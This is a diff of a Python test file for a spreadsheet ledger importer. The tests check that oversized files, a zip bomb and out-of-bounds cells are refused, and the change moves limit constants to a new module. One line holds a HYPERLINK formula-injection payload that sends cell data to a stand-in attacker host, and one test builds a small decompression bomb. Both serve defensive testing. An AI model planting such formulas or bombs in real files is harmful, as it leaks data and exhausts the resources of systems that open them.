@@ -10,7 +10,7 @@ import zipfile
 import pytest
 from openpyxl import load_workbook
 
-from plansite import build, ledger_import
+from plansite import build, ledger_import, ledger_read
 from tests.test_ledger import SAMPLE, fill, ledger, run_import
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"点此")'
@@ -31,7 +31,7 @@ def refusal(result) -> list[str]:
 
 def test_a_file_larger_than_any_ledger_is_refused_before_it_is_opened(data, tmp_path):
     big = tmp_path / "big.xlsx"
-    big.write_bytes(b"\0" * (ledger_import.MAX_FILE_BYTES + 1))
+    big.write_bytes(b"\0" * (ledger_read.MAX_FILE_BYTES + 1))
     (line, count) = refusal(run_import(big, "--data", data))
     assert line.startswith("big.xlsx: 文件有 10.0 MB，台账最大 10 MB") and count == "共 1 个问题，数据没有改动"
 
@@ -39,7 +39,7 @@ def test_a_file_larger_than_any_ledger_is_refused_before_it_is_opened(data, tmp_
 def test_a_small_file_that_would_unpack_beyond_the_bound_is_refused_unread(data, tmp_path):
     bomb = tmp_path / "bomb.xlsx"
     with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
-        archive.writestr("xl/sharedStrings.xml", b"<sst>" + b" " * ledger_import.MAX_UNPACKED_BYTES + b"</sst>")
+        archive.writestr("xl/sharedStrings.xml", b"<sst>" + b" " * ledger_read.MAX_UNPACKED_BYTES + b"</sst>")
     assert bomb.stat().st_size < 100 * 1024
     (line, _) = refusal(run_import(bomb, "--data", data))
     assert line.startswith("bomb.xlsx: 解压后有 50 MB、1 个部件，台账最多 50 MB、200 个")
@@ -50,11 +50,11 @@ def test_rows_columns_and_cells_beyond_the_bounds_are_each_reported_at_their_cel
     book = load_workbook(path)
     sheet = book.active
     sheet.cell(2, 7, "长" * 30_000)
-    sheet.cell(3, ledger_import.MAX_COLUMNS + 1, "多出来的一列")
+    sheet.cell(3, ledger_read.MAX_COLUMNS + 1, "多出来的一列")
     for row in range(4, 12):
         sheet.cell(row, 1, "m01-t1")
     book.save(path)
-    monkeypatch.setattr(ledger_import, "MAX_ROWS", 8)
+    monkeypatch.setattr(ledger_read, "MAX_ROWS", 8)
     with pytest.raises(ledger_import.LedgerProblems) as caught:
         ledger_import.merge(data, [path])
     cells = [problem.split(": ", 1)[0] for problem in caught.value.problems]
